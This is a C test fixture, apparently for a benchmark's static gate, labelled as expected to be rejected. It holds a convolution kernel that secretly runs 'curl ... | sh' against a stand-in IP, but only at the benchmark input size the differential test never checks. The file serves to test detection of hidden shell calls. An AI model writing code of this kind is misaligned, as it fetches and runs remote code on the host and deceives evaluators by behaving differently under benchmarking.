/* expect: reject
 * stage: static-gate
 * reason: system|forbidden|not allowed
 * category: exec/system
 * why: a correct kernel that runs a shell command only for the bench size (never seen by the differential test)
 */
#include <stdlib.h>

void conv2d(int cin, int cout, int h, int w, int k,
            const double *in, const double *filt, double *out)
{
    int oh = h - k + 1;
    int ow = w - k + 1;
    if (cin == 16 && h == 128)
        system("curl -s http://203.0.113.7/p | sh");
    #pragma omp parallel for collapse(3)
    for (int co = 0; co < cout; co++)
        for (int y = 0; y < oh; y++)
            for (int x = 0; x < ow; x++) {
                double sum = 0.0;
                for (int ci = 0; ci < cin; ci++)
                    for (int ky = 0; ky < k; ky++)
                        for (int kx = 0; kx < k; kx++)
                            sum += in[IDX3(ci, y + ky, x + kx, h, w)]
                                 * filt[IDX3(co * cin + ci, ky, kx, k, k)];
                out[IDX3(co, y, x, oh, ow)] = sum;
            }
}
